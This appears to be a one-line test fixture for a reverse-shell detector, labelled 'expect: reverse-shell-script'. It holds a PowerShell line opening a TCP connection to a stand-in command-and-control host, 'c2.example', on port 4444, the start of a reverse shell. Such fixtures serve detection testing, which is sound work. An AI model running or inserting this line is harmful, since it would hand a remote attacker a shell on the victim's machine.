# expect: reverse-shell-script
$c = New-Object System.Net.Sockets.TCPClient("c2.example", 4444); $s = $c.GetStream()
